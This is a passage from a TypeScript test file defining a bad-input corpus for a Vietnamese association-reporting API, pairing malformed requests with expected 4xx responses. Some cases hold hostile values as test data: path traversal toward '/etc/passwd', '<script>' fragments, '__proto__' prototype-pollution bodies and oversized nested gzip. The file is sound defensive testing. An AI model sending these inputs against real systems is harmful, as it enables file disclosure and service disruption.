// The bad-input corpus (RELIABILITY.md, promise 1): every route fed malformed, mistyped,
// oversized, hostile or odd input. Each case: the right 4xx, the field named, never a 5xx, and
// the table and the bucket byte-identical before and after. Then the hostile text that is valid
// (NFD, <script>, formula cells): stored as NFC, escaped or neutralised where it is shown.
import { connect } from 'node:net';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestStack, type TestStack } from '../support/embedded.ts';
import { closeAndWait, report, seedCycle, THREE_TIER_ASSOCIATIONS, THREE_TIER_UNITS } from '../support/cycle.ts';
import { pdfPages } from '../support/pdf-text.ts';
import { windows1258 } from '../support/windows-1258.ts';
import { dumpStores, recordFigures, type StoreDump } from './support.ts';

type Who = 'association' | 'other' | 'reviewer' | 'province' | 'none';

interface Case {
  name: string;
  method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
  path: string;
  who: Who;
  /** a JSON value (sent as application/json), or a raw body with its content type */
  json?: unknown;
  body?: string | Uint8Array<ArrayBuffer>;
  contentType?: string | null;
  /** more request headers (Content-Encoding, …) */
  headers?: Record<string, string>;
  status: number;
  /** the field named in error.fields */
  field?: string;
  /** a registry problem: file and line */
  problem?: { file: 'units' | 'associations'; line: number };
}

const Y = 2024;
const R = `/cycles/${Y}/reports/CH-NCT`;
const valid = report(120);
const form = (fields: [string, string][]) => fields.map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`).join('&');
const validForm: [string, string][] = [
  ['members', '120'],
  ['selfRating', 'good'],
  ['submittedBy', 'Lò Thị Mai'],
];
const unitsWith = (...rows: string[]) => `${THREE_TIER_UNITS}${rows.join('\n')}\n`;
const associationsWith = (...rows: string[]) => `${THREE_TIER_ASSOCIATIONS}${rows.join('\n')}\n`;
const registry = (units: string, associations: string): Partial<Case> => ({ method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', json: { units, associations } });
const submit = (json: unknown, extra: Partial<Case> = {}): Partial<Case> => ({ method: 'PUT', path: R, who: 'association', json, ...extra });
const review = (json: unknown): Partial<Case> => ({ method: 'POST', path: `${R}/review`, who: 'reviewer', json });
const open = (json: unknown): Partial<Case> => ({ method: 'POST', path: '/cycles', who: 'province', json });
const gzippedText = (text: string): Partial<Case> => ({ body: gzipSync(text), contentType: 'application/json', headers: { 'content-encoding': 'gzip' } });
const gzipped = (json: unknown): Partial<Case> => gzippedText(JSON.stringify(json));
const nested = (depth: number) => `{"units":${'['.repeat(depth)}${']'.repeat(depth)},"associations":""}`;
/** 20,001 communes under one district: past the 20,000-row units cap, small once gzipped. */
const unitsPastCap = () => `${THREE_TIER_UNITS}${Array.from({ length: 20_001 }, (_, i) => `DB-X${i},Xã ${i},commune,DB-TG\n`).join('')}`;
/** The registry's JSON with the associations CSV's bytes as Excel's "CSV (Comma delimited)" writes them on a Vietnamese Windows. */
const windows1258Body = () =>
  new Uint8Array(
    Buffer.concat([
      Buffer.from(`{"units":${JSON.stringify(THREE_TIER_UNITS)},"associations":"${THREE_TIER_ASSOCIATIONS.replaceAll('\n', '\\n')}BAD,`),
      windows1258('Hội Chữ thập đỏ'),
      Buffer.from(',DB,false,2020-01-01,\\n"}'),
    ]),
  );
const c = (name: string, partial: Partial<Case>, status: number, expectation: Partial<Case> = {}): Case =>
  ({ name, method: 'GET', path: '/', who: 'none', ...partial, status, ...expectation }) as Case;

export const CORPUS: Case[] = [
  // ---- the report: malformed bodies, content types, size ----
  c('malformed JSON', submit(undefined, { body: '{"members": 5,', contentType: 'application/json' }), 400),
  c('JSON with a trailing comma', submit(undefined, { body: '{"members": 5,}', contentType: 'application/json' }), 400),
  c('JSON that is an array', submit([valid]), 422, { field: 'body' }),
  c('a report body that is not UTF-8 (Windows-1258)', submit(undefined, { body: new Uint8Array(Buffer.concat([Buffer.from('{"members":5,"submittedBy":"'), windows1258('Lò Thị Mai'), Buffer.from('"}')])), contentType: 'application/json' }), 400, { field: 'body' }),
  c('JSON null', submit(undefined, { body: 'null', contentType: 'application/json' }), 422, { field: 'body' }),
  c('JSON that is a string', submit(undefined, { body: '"members"', contentType: 'application/json' }), 422, { field: 'body' }),
  c('empty body', submit(undefined, { body: '', contentType: 'application/json' }), 400),
  c('whitespace body', submit(undefined, { body: ' \n\t ', contentType: 'application/json' }), 400),
  c('body over 256 KB', submit({ ...valid, achievements: 'x'.repeat(262_145) }), 413),
  c('text/plain content type', submit(undefined, { body: JSON.stringify(valid), contentType: 'text/plain' }), 415),
  c('no content type', submit(undefined, { body: JSON.stringify(valid), contentType: null }), 415),
  c('XML content type', submit(undefined, { body: '<report/>', contentType: 'application/xml' }), 415),
  c('multipart content type', submit(undefined, { body: '--x\r\n\r\n--x--', contentType: 'multipart/form-data; boundary=x' }), 415),
  c('form body labelled JSON', submit(undefined, { body: form(validForm), contentType: 'application/json' }), 400),
  c('JSON body labelled form', submit(undefined, { body: JSON.stringify(valid), contentType: 'application/x-www-form-urlencoded' }), 400),
  // ---- the report: types and limits ----
  c('members as a string', submit({ ...valid, members: '120' }), 422, { field: 'members' }),
  c('members as a float', submit({ ...valid, members: 12.5 }), 422, { field: 'members' }),
  c('members negative', submit({ ...valid, members: -1 }), 422, { field: 'members' }),
  c('members past 10,000,000', submit({ ...valid, members: 10_000_001 }), 422, { field: 'members' }),
  c('members 1e400 (Infinity)', submit(undefined, { body: JSON.stringify(valid).replace('"members":120', '"members":1e400'), contentType: 'application/json' }), 422, { field: 'members' }),
  c('members past 2^53', submit(undefined, { body: JSON.stringify(valid).replace('"members":120', '"members":9007199254740993'), contentType: 'application/json' }), 422, { field: 'members' }),
  c('members null', submit({ ...valid, members: null }), 422, { field: 'members' }),
  c('members missing', submit({ selfRating: 'good', submittedBy: 'A' }), 422, { field: 'members' }),
  c('newMembers over members', submit({ ...valid, members: 10, newMembers: 11 }), 422, { field: 'newMembers' }),
  c('branches past 100,000', submit({ ...valid, branches: 100_001 }), 422, { field: 'branches' }),
  c('charityFundsVnd past 10^13', submit({ ...valid, charityFundsVnd: 10 ** 13 + 1 }), 422, { field: 'charityFundsVnd' }),
  c('charityEvents as a float', submit({ ...valid, charityEvents: 1.000001 }), 422, { field: 'charityEvents' }),
  c('legalEducationSessions negative zero point five', submit({ ...valid, legalEducationSessions: -0.5 }), 422, { field: 'legalEducationSessions' }),
  c('selfRating unknown', submit({ ...valid, selfRating: 'great' }), 422, { field: 'selfRating' }),
  c('selfRating in another case', submit({ ...valid, selfRating: 'EXCELLENT' }), 422, { field: 'selfRating' }),
  c('nominate as a string', submit({ ...valid, nominate: 'true' }), 422, { field: 'nominate' }),
  c('nominate as 1', submit({ ...valid, nominate: 1 }), 422, { field: 'nominate' }),
  c('nominate without achievements', submit({ ...valid, nominate: true, achievements: '' }), 422, { field: 'achievements' }),
  c('achievements over 5,000 characters', submit({ ...valid, achievements: 'ạ'.repeat(5001) }), 422, { field: 'achievements' }),
  c('achievements as an object', submit({ ...valid, achievements: { text: 'x' } }), 422, { field: 'achievements' }),
  c('submittedBy empty', submit({ ...valid, submittedBy: '' }), 422, { field: 'submittedBy' }),
  c('submittedBy blank', submit({ ...valid, submittedBy: '   ' }), 422, { field: 'submittedBy' }),
  c('submittedBy over 200 characters', submit({ ...valid, submittedBy: 'A'.repeat(201) }), 422, { field: 'submittedBy' }),
  c('submittedBy on two lines', submit({ ...valid, submittedBy: 'Lò Thị\nMai' }), 422, { field: 'submittedBy' }),
  c('unknown field', submit({ ...valid, colour: 'red' }), 422, { field: 'colour' }),
  c('__proto__ field', submit(undefined, { body: JSON.stringify(valid).replace('{', '{"__proto__":{"members":1},'), contentType: 'application/json' }), 422, { field: '__proto__' }),
  c('constructor field', submit({ ...valid, constructor: 'x' }), 422, { field: 'constructor' }),
  c('control character (BEL) in achievements', submit({ ...valid, achievements: 'Tốt\u0007' }), 422, { field: 'achievements' }),
  c('NUL in limitations', submit({ ...valid, limitations: 'a\u0000b' }), 422, { field: 'limitations' }),
  c('escape sequence in proposals', submit({ ...valid, proposals: '\u001b[31mđỏ' }), 422, { field: 'proposals' }),
  c('bidi override (RLO) in submittedBy', submit({ ...valid, submittedBy: 'Mai\u202Egnol' }), 422, { field: 'submittedBy' }),
  c('bidi isolate (LRI) in achievements', submit({ ...valid, achievements: '\u2066x\u2069' }), 422, { field: 'achievements' }),
  c('zero-width space as the whole of submittedBy (not "required" text)', submit({ ...valid, submittedBy: '\u200B' }), 422, { field: 'submittedBy' }),
  c('only combining marks as submittedBy', submit({ ...valid, submittedBy: '\u0301\u0301' }), 422, { field: 'submittedBy' }),
  c('zero-width space inside achievements', submit({ ...valid, achievements: 'Tốt\u200Blắm' }), 422, { field: 'achievements' }),
  c('zero-width joiner outside a word in limitations', submit({ ...valid, limitations: 'Thiếu \u200D kinh phí' }), 422, { field: 'limitations' }),
  c('right-to-left mark in proposals', submit({ ...valid, proposals: 'Đề xuất\u200F 1' }), 422, { field: 'proposals' }),
  c('word joiner in submittedBy', submit({ ...valid, submittedBy: 'Lò\u2060Thị Mai' }), 422, { field: 'submittedBy' }),
  c('BOM inside submittedBy', submit({ ...valid, submittedBy: 'Lò Thị\uFEFF Mai' }), 422, { field: 'submittedBy' }),
  c('tag characters (hidden ASCII) in achievements', submit({ ...valid, achievements: 'Tốt\u{E0069}\u{E0067}\u{E006E}' }), 422, { field: 'achievements' }),
  c('line separator in submittedBy', submit({ ...valid, submittedBy: 'Lò Thị\u2028Mai' }), 422, { field: 'submittedBy' }),
  c('paragraph separator in submittedBy', submit({ ...valid, submittedBy: 'Lò Thị\u2029Mai' }), 422, { field: 'submittedBy' }),
  c('review: zero-width space in the comment', review({ decision: 'return', version: 1, comment: '\u200B' }), 422, { field: 'comment' }),
  c('unpaired surrogate in limitations', submit(undefined, { body: JSON.stringify({ ...valid, limitations: 'X' }).replace('"X"', '"\\ud800"'), contentType: 'application/json' }), 422, { field: 'limitations' }),
  // ---- the report as a form ----
  c('form: members as a decimal', submit(undefined, { body: form([['members', '12.5'], ...validForm.slice(1)]), contentType: 'application/x-www-form-urlencoded' }), 422, { field: 'members' }),
  c('form: members with a sign', submit(undefined, { body: form([['members', '-3'], ...validForm.slice(1)]), contentType: 'application/x-www-form-urlencoded' }), 422, { field: 'members' }),
  c('form: members with a thousands separator', submit(undefined, { body: form([['members', '1.200'], ...validForm.slice(1)]), contentType: 'application/x-www-form-urlencoded' }), 422, { field: 'members' }),
  c('form: members sent twice', submit(undefined, { body: form([...validForm, ['members', '5']]), contentType: 'application/x-www-form-urlencoded' }), 422, { field: 'members' }),
  c('form: nominate maybe', submit(undefined, { body: form([...validForm, ['nominate', 'maybe']]), contentType: 'application/x-www-form-urlencoded' }), 422, { field: 'nominate' }),
  c('form: unknown field', submit(undefined, { body: form([...validForm, ['isAdmin', '1']]), contentType: 'application/x-www-form-urlencoded' }), 422, { field: 'isAdmin' }),
  c('form: members 1e2', submit(undefined, { body: form([['members', '1e2'], ...validForm.slice(1)]), contentType: 'application/x-www-form-urlencoded' }), 422, { field: 'members' }),
  c('form: members 0x10', submit(undefined, { body: form([['members', '0x10'], ...validForm.slice(1)]), contentType: 'application/x-www-form-urlencoded' }), 422, { field: 'members' }),
  c('form: members with a leading space', submit(undefined, { body: form([['members', ' 5'], ...validForm.slice(1)]), contentType: 'application/x-www-form-urlencoded' }), 422, { field: 'members' }),
  c('form: broken percent-encoding', submit(undefined, { body: 'members=%E0%A4%A&selfRating=good&submittedBy=A', contentType: 'application/x-www-form-urlencoded' }), 422, { field: 'members' }),
  // ---- the caller before the body: no token, no parse ----
  c('no token, malformed JSON: 401, not 400', submit(undefined, { who: 'none', body: '{"members": 5,', contentType: 'application/json' }), 401),
  c('no token, body over 256 KB: 401, not 413', submit({ ...valid, achievements: 'x'.repeat(262_145) }, { who: 'none' }), 401),
  c('no token, gzip of 100,000 nested brackets to the registry', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'none', ...gzippedText(nested(100_000)) }, 401),
  c('wrong role, gzip of nested brackets to the registry: 403', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'association', ...gzippedText(nested(100_000)) }, 403),
  c('wrong role, wrong content type: 403, not 415', { method: 'POST', path: `${R}/review`, who: 'association', body: 'x', contentType: 'text/plain' }, 403),
  // ---- encodings and depth ----
  c('gzip on the report route', submit(undefined, gzipped(valid)), 415),
  c('gzip on the review route', { method: 'POST', path: `${R}/review`, who: 'reviewer', ...gzipped({ decision: 'approve', version: 1, score: 90 }) }, 415),
  c('gzip on opening a cycle', { method: 'POST', path: '/cycles', who: 'province', ...gzipped({ year: 2030 }) }, 415),
  c('deflate on the registry', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', body: JSON.stringify({ units: THREE_TIER_UNITS, associations: THREE_TIER_ASSOCIATIONS }), contentType: 'application/json', headers: { 'content-encoding': 'deflate' } }, 415),
  c('JSON nested 17 deep in a report', submit(undefined, { body: `{"members":${'['.repeat(17)}${']'.repeat(17)}}`, contentType: 'application/json' }), 400, { field: 'body' }),
  c('JSON nested 100,000 deep, gzipped, to the registry', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', ...gzippedText(nested(100_000)) }, 400, { field: 'body' }),
  c('gzip that inflates past 16 MB', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', ...gzipped({ units: 'x'.repeat(17 * 1024 * 1024), associations: '' }) }, 413),
  c('corrupt gzip', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', ...gzipped({}), body: Buffer.from('1f8b0800000000000003ffff', 'hex') }, 400),
  // ---- codes and years in the path ----
  c('association code with path traversal', { method: 'GET', path: `/cycles/${Y}/reports/..%2F..%2Fetc%2Fpasswd`, who: 'province' }, 404, { field: 'association' }),
  c('association code with a dot segment', { method: 'PUT', path: `/cycles/${Y}/reports/..`, who: 'association', json: valid }, 404),
  c('association code over 40 characters', { method: 'GET', path: `/cycles/${Y}/reports/${'A'.repeat(41)}`, who: 'province' }, 404, { field: 'association' }),
  c('association code with Vietnamese letters', { method: 'GET', path: `/cycles/${Y}/reports/${encodeURIComponent('HỘI-1')}`, who: 'province' }, 404, { field: 'association' }),
  c('association code with a NUL', { method: 'GET', path: `/cycles/${Y}/reports/CH%00NCT`, who: 'province' }, 404, { field: 'association' }),
  c('association code with a quote and angle brackets', { method: 'GET', path: `/cycles/${Y}/reports/${encodeURIComponent('"><script>')}`, who: 'province' }, 404, { field: 'association' }),
  c('association code unknown', { method: 'GET', path: `/cycles/${Y}/reports/NOPE`, who: 'province' }, 404, { field: 'association' }),
  c('year with a letter', { method: 'GET', path: '/cycles/20x4', who: 'province' }, 404, { field: 'year' }),
  c('year with five digits', { method: 'GET', path: '/cycles/02024', who: 'province' }, 404, { field: 'year' }),
  c('year negative', { method: 'GET', path: '/cycles/-2024', who: 'province' }, 404, { field: 'year' }),
  c('year with path traversal', { method: 'PUT', path: `/cycles/..%2F2024/reports/CH-NCT`, who: 'association', json: valid }, 404, { field: 'year' }),
  c('year percent-encoded NUL', { method: 'GET', path: '/cycles/%00', who: 'province' }, 404, { field: 'year' }),
  c('year with no cycle', { method: 'GET', path: '/cycles/1999', who: 'province' }, 404, { field: 'year' }),
  c('broken percent-encoding in the path', { method: 'GET', path: `/cycles/${Y}/reports/%E0%A4%A`, who: 'province' }, 404),
  // ---- review ----
  c('review: unknown decision', review({ decision: 'maybe', version: 1 }), 422, { field: 'decision' }),
  c('review: no decision', review({ version: 1, score: 90 }), 422, { field: 'decision' }),
  c('review: score past 100', review({ decision: 'approve', version: 1, score: 101 }), 422, { field: 'score' }),
  c('review: score as a float', review({ decision: 'approve', version: 1, score: 90.5 }), 422, { field: 'score' }),
  c('review: score as a string', review({ decision: 'approve', version: 1, score: '90' }), 422, { field: 'score' }),
  c('review: version as a string', review({ decision: 'approve', version: '1', score: 90 }), 422, { field: 'version' }),
  c('review: version 0', review({ decision: 'approve', version: 0, score: 90 }), 422, { field: 'version' }),
  c('review: rating unknown', review({ decision: 'approve', version: 1, score: 90, rating: 'best' }), 422, { field: 'rating' }),
  c('review: return without a comment', review({ decision: 'return', version: 1 }), 422, { field: 'comment' }),
  c('review: comment over 2,000 characters', review({ decision: 'return', version: 1, comment: 'x'.repeat(2001) }), 422, { field: 'comment' }),
  c('review: field of another decision', review({ decision: 'return', version: 1, comment: 'Sửa lại.', score: 90 }), 422, { field: 'score' }),
  c('review: stale version', review({ decision: 'approve', version: 7, score: 90 }), 409, { field: 'version' }),
  c('review: form content type', { method: 'POST', path: `${R}/review`, who: 'reviewer', body: 'decision=approve&version=1&score=90', contentType: 'application/x-www-form-urlencoded' }, 415),
  c('reopen: no comment', { method: 'POST', path: `${R}/reopen`, who: 'province', json: {} }, 422, { field: 'comment' }),
  // ---- opening a cycle ----
  c('open: year as a string', open({ year: '2030' }), 422, { field: 'year' }),
  c('open: year before 2000', open({ year: 1999 }), 422, { field: 'year' }),
  c('open: year as a float', open({ year: 2030.5 }), 422, { field: 'year' }),
  c('open: no year', open({ deadline: '2030-12-15' }), 422, { field: 'year' }),
  c('open: an array', open([]), 422, { field: 'body' }),
  c('open: an array of a config', open([{ year: 2030 }]), 422, { field: 'body' }),
  c('open: impossible deadline', open({ year: 2030, deadline: '2030-02-30' }), 422, { field: 'deadline' }),
  c('open: the office’s phone with letters', open({ year: 2030, contact: { name: 'Văn phòng', phone: '0213 ABC 543' } }), 422, { field: 'contact.phone' }),
  c('open: the office’s contact without a name', open({ year: 2030, contact: { phone: '0213 3876 543' } }), 422, { field: 'contact.name' }),
  c('open: the office’s email without a domain', open({ year: 2030, contact: { name: 'Văn phòng', phone: '0213 3876 543', email: 'vanphong@' } }), 422, { field: 'contact.email' }),
  c('open: autoCloseAt without a time zone', open({ year: 2030, autoCloseAt: '2030-12-20T17:00:00' }), 422, { field: 'autoCloseAt' }),
  c('open: autoCloseAt already past', open({ year: 2030, autoCloseAt: '2020-12-20T17:00:00+07:00' }), 422, { field: 'autoCloseAt' }),
  c('open: quotaPercent past 100', open({ year: 2030, commendation: { quotaPercent: 101 } }), 422, { field: 'commendation.quotaPercent' }),
  c('open: minScore negative', open({ year: 2030, commendation: { minScore: -1 } }), 422, { field: 'commendation.minScore' }),
  c('open: five issuer lines', open({ year: 2030, issuer: ['A', 'B', 'C', 'D', 'E'] }), 422, { field: 'issuer' }),
  c('open: issuerKind unknown', open({ year: 2030, issuerKind: 'church' }), 422, { field: 'issuerKind' }),
  c('open: unknown field', open({ year: 2030, admin: true }), 422, { field: 'admin' }),
  c('open: the cycle exists', open({ year: Y }), 409, { field: 'year' }),
  // ---- registry files ----
  c('registry: units not a string', registry(42 as never, THREE_TIER_ASSOCIATIONS), 422, { field: 'units' }),
  c('registry: neither file nor workbook', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', json: {} }, 422, { field: 'units' }),
  c('registry: units alone that drop the unit of a kept association', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', json: { units: THREE_TIER_UNITS.replace(/^DB-TG-QC,.*\n/mu, '') } }, 422, { problem: { file: 'associations', line: 0 } }),
  c('registry: a CSV saved as Windows-1258, its bytes in the body', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', body: windows1258Body(), contentType: 'application/json' }, 422, { problem: { file: 'associations', line: 9 } }),
  c('registry: a CSV decoded with U+FFFD by the client', registry(THREE_TIER_UNITS, associationsWith('BAD,H\uFFFD\uFFFDi Sai,DB,false,2020-01-01,')), 422, { problem: { file: 'associations', line: 9 } }),
  c('registry: a workbook that is not base64', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', json: { workbook: '%%%' } }, 422, { field: 'workbook' }),
  c('registry: a workbook that is a CSV', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', json: { workbook: Buffer.from(THREE_TIER_UNITS).toString('base64') } }, 422, { field: 'workbook' }),
  c('registry: a workbook and a CSV together', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', json: { workbook: 'UEsDBA==', units: THREE_TIER_UNITS } }, 422, { field: 'workbook' }),
  c('registry: __proto__ field', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', body: `{"units":"x","associations":"y","__proto__":{"polluted":true}}`, contentType: 'application/json' }, 422, { field: '__proto__' }),
  c('registry: unknown field', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', json: { units: THREE_TIER_UNITS, associations: THREE_TIER_ASSOCIATIONS, reports: '' } }, 422, { field: 'reports' }),
  c('registry: unknown level', registry(unitsWith('DB-X,Xã X,village,DB'), THREE_TIER_ASSOCIATIONS), 422, { problem: { file: 'units', line: 8 } }),
  c('registry: unknown parent', registry(unitsWith('DB-X,Xã X,commune,NOWHERE'), THREE_TIER_ASSOCIATIONS), 422, { problem: { file: 'units', line: 8 } }),
  c('registry: a loop in the tree', registry(unitsWith('L1,Huyện L1,district,L2', 'L2,Huyện L2,district,L1'), THREE_TIER_ASSOCIATIONS), 422, { problem: { file: 'units', line: 8 } }),
  c('registry: duplicate unit code', registry(unitsWith('DB-TG,Huyện Tuần Giáo,district,DB'), THREE_TIER_ASSOCIATIONS), 422, { problem: { file: 'units', line: 8 } }),
  c('registry: two provinces', registry(unitsWith('LC,Tỉnh Lai Châu,province,'), THREE_TIER_ASSOCIATIONS), 422, { problem: { file: 'units', line: 8 } }),
  c('registry: parent of a lower level', registry(unitsWith('DB-Z,Huyện Z,district,DB-TG-QC'), THREE_TIER_ASSOCIATIONS), 422, { problem: { file: 'units', line: 8 } }),
  c('registry: wrong column set', registry('code,name,level\nDB,Tỉnh Điện Biên,province\n', THREE_TIER_ASSOCIATIONS), 422, { problem: { file: 'units', line: 1 } }),
  c('registry: path traversal in a unit code', registry(unitsWith('../etc,Xã X,commune,DB'), THREE_TIER_ASSOCIATIONS), 422, { problem: { file: 'units', line: 8 } }),
  c('registry: unterminated quote', registry(unitsWith('"DB-Q,Xã Q,commune,DB'), THREE_TIER_ASSOCIATIONS), 422),
  c('registry: impossible date', registry(THREE_TIER_UNITS, associationsWith('BAD,Hội Sai,DB,false,2020-02-30,')), 422, { problem: { file: 'associations', line: 9 } }),
  c('registry: special neither true nor false', registry(THREE_TIER_UNITS, associationsWith('BAD,Hội Sai,DB,yes,2020-01-01,')), 422, { problem: { file: 'associations', line: 9 } }),
  c('registry: association at an unknown unit', registry(THREE_TIER_UNITS, associationsWith('BAD,Hội Sai,NOWHERE,false,2020-01-01,')), 422, { problem: { file: 'associations', line: 9 } }),
  c('registry: control character in a name', registry(THREE_TIER_UNITS, associationsWith('BAD,"Hội\tSai",DB,false,2020-01-01,')), 422, { problem: { file: 'associations', line: 9 } }),
  c('registry: zero-width space in an association name', registry(THREE_TIER_UNITS, associationsWith('BAD,Hội\u200BSai,DB,false,2020-01-01,')), 422, { problem: { file: 'associations', line: 9 } }),
  c('registry: right-to-left override in a unit name', registry(unitsWith('DB-X,Xã \u202Egnol,commune,DB-TG'), THREE_TIER_ASSOCIATIONS), 422, { problem: { file: 'units', line: 8 } }),
  c('registry: line separator in a unit name', registry(unitsWith('DB-X,Xã\u2028X,commune,DB-TG'), THREE_TIER_ASSOCIATIONS), 422, { problem: { file: 'units', line: 8 } }),
  c('registry: an 8 MB name, gzipped', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', ...gzipped({ units: THREE_TIER_UNITS, associations: associationsWith(`BIG,"${'x'.repeat(8 * 1024 * 1024)}",DB,false,2020-01-01,`) }) }, 422, { problem: { file: 'associations', line: 9 } }),
  c('registry: 500,000 bad rows, gzipped: stops at the 200th problem', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', ...gzipped({ units: THREE_TIER_UNITS, associations: `${THREE_TIER_ASSOCIATIONS}${'B,H,NOPE,false,2020-01-01,\n'.repeat(500_000)}` }) }, 422, { problem: { file: 'associations', line: 0 } }),
  c('registry: one unit past the 20,000-row cap, gzipped', { method: 'PUT', path: `/cycles/${Y}/registry`, who: 'province', ...gzipped({ units: unitsPastCap(), associations: THREE_TIER_ASSOCIATIONS }) }, 422, { problem: { file: 'units', line: 20_002 } }),
  c('registry: dropping an association with a report', registry(THREE_TIER_UNITS, THREE_TIER_ASSOCIATIONS.split('\n').filter((l) => !l.startsWith('CH-NCT')).join('\n')), 409, { field: 'associations' }),
  // ---- listing: cursors, filters ----
  c('list: cursor of garbage', { method: 'GET', path: `/cycles/${Y}/reports?cursor=%25%25%25`, who: 'province' }, 422, { field: 'cursor' }),
  c('list: cursor that is base64 of nonsense', { method: 'GET', path: `/cycles/${Y}/reports?cursor=${Buffer.from('{"after":1}').toString('base64url')}`, who: 'province' }, 422, { field: 'cursor' }),
  c('list: cursor of another subtree (scope widening)', { method: 'GET', path: `/cycles/${Y}/reports?unit=DB-MN&cursor=${Buffer.from(JSON.stringify({ after: 'DB/DB-TG/#QC-NCT' })).toString('base64url')}`, who: 'reviewer' }, 422, { field: 'cursor' }),
  c('list: cursor over 600 characters', { method: 'GET', path: `/cycles/${Y}/reports?cursor=${'A'.repeat(601)}`, who: 'province' }, 422, { field: 'cursor' }),
  c('list: unknown status', { method: 'GET', path: `/cycles/${Y}/reports?status=lost`, who: 'province' }, 422, { field: 'status' }),
  c('list: limit 0', { method: 'GET', path: `/cycles/${Y}/reports?limit=0`, who: 'province' }, 422, { field: 'limit' }),
  c('list: limit past 200', { method: 'GET', path: `/cycles/${Y}/reports?limit=201`, who: 'province' }, 422, { field: 'limit' }),
  c('list: limit not a number', { method: 'GET', path: `/cycles/${Y}/reports?limit=ten`, who: 'province' }, 422, { field: 'limit' }),
  c('list: limit 1e2', { method: 'GET', path: `/cycles/${Y}/reports?limit=1e2`, who: 'province' }, 422, { field: 'limit' }),
  c('list: limit 0x10', { method: 'GET', path: `/cycles/${Y}/reports?limit=0x10`, who: 'province' }, 422, { field: 'limit' }),
  c('list: limit with a leading space', { method: 'GET', path: `/cycles/${Y}/reports?limit=%205`, who: 'province' }, 422, { field: 'limit' }),
  c('list: limit 5.0', { method: 'GET', path: `/cycles/${Y}/reports?limit=5.0`, who: 'province' }, 422, { field: 'limit' }),
  c('list: unknown unit', { method: 'GET', path: `/cycles/${Y}/reports?unit=NOPE`, who: 'province' }, 404, { field: 'unit' }),
  c('list: unknown format', { method: 'GET', path: `/cycles/${Y}/reports?format=pdf&status=missing`, who: 'province' }, 422, { field: 'format' }),
  c('list: a download of an unknown status', { method: 'GET', path: `/cycles/${Y}/reports?format=xlsx&status=lost`, who: 'reviewer' }, 422, { field: 'status' }),
  c('report: version 0', { method: 'GET', path: `${R}?version=0`, who: 'association' }, 422, { field: 'version' }),
  c('report: version 1e0', { method: 'GET', path: `${R}?version=1e0`, who: 'reviewer' }, 422, { field: 'version' }),
  c('report: a version never submitted', { method: 'GET', path: `${R}?version=99`, who: 'province' }, 404, { field: 'version' }),
  // ---- the year switcher and the access links (nothing is issued for a refused request) ----
  c('cycles list: an association, an odd query: 403', { method: 'GET', path: '/cycles?x=%00', who: 'association' }, 403),
  c('links: unknown format', { method: 'GET', path: `/cycles/${Y}/links?format=pdf`, who: 'province' }, 422, { field: 'format' }),
  c('links: unknown role', { method: 'GET', path: `/cycles/${Y}/links?role=${encodeURIComponent('<script>')}`, who: 'reviewer' }, 422, { field: 'role' }),
  c('links: unknown unit', { method: 'GET', path: `/cycles/${Y}/links?unit=NOPE`, who: 'province' }, 404, { field: 'unit' }),
  c('links: a unit outside the reviewer’s area', { method: 'GET', path: `/cycles/${Y}/links?unit=DB-TG`, who: 'reviewer' }, 403),
  c('links: no such cycle', { method: 'GET', path: '/cycles/2031/links', who: 'province' }, 404, { field: 'year' }),
  c('outbox: no such cycle', { method: 'GET', path: '/cycles/2031/outbox', who: 'province' }, 404, { field: 'year' }),
  c('submission: an Idempotency-Key with a space', { method: 'PUT', path: `/cycles/${Y}/reports/CH-NCT`, who: 'association', json: {}, headers: { 'idempotency-key': 'a b c d e f g h' } }, 422, { field: 'Idempotency-Key' }),
  c('link renewal: no such association', { method: 'POST', path: `/cycles/${Y}/links/NOPE`, who: 'province' }, 404, { field: 'association' }),
  c('link renewal: code with path traversal', { method: 'POST', path: `/cycles/${Y}/links/..%2F..%2Fetc`, who: 'province' }, 404, { field: 'association' }),
  c('link renewal: no such unit', { method: 'POST', path: `/cycles/${Y}/links/NOPE?role=reviewer`, who: 'province' }, 404, { field: 'association' }),
  c('link renewal: by a reviewer', { method: 'POST', path: `/cycles/${Y}/links/CH-NCT`, who: 'reviewer' }, 403),
  // ---- what was published ----
  c('published: revision not a number', { method: 'GET', path: '/cycles/2023/summary?revision=abc', who: 'province' }, 422, { field: 'revision' }),
  c('published: revision 1e0', { method: 'GET', path: '/cycles/2023/summary?revision=1e0', who: 'province' }, 422, { field: 'revision' }),
  c('published: revision 0x1', { method: 'GET', path: '/cycles/2023/summary?revision=0x1', who: 'province' }, 422, { field: 'revision' }),
  c('published: revision 0', { method: 'GET', path: '/cycles/2023/summary?revision=0', who: 'province' }, 422, { field: 'revision' }),
  c('published: revision not published', { method: 'GET', path: '/cycles/2023/report.pdf?revision=99', who: 'province' }, 404, { field: 'revision' }),
  c('published: unknown format', { method: 'GET', path: '/cycles/2023/commendations?format=xlsx', who: 'province' }, 422, { field: 'format' }),
  c('published: a cycle not yet published', { method: 'GET', path: `/cycles/${Y}/summary`, who: 'province' }, 409),
  // ---- the office exports (SPEC section 11) ----
  c('word report: revision not published', { method: 'GET', path: '/cycles/2023/report.docx?revision=99', who: 'province' }, 404, { field: 'revision' }),
  c('word report: draft=yes', { method: 'GET', path: '/cycles/2023/report.docx?draft=yes', who: 'province' }, 422, { field: 'draft' }),
  c('workbook: link=yes', { method: 'GET', path: '/cycles/2023/export.xlsx?link=yes', who: 'province' }, 422, { field: 'link' }),
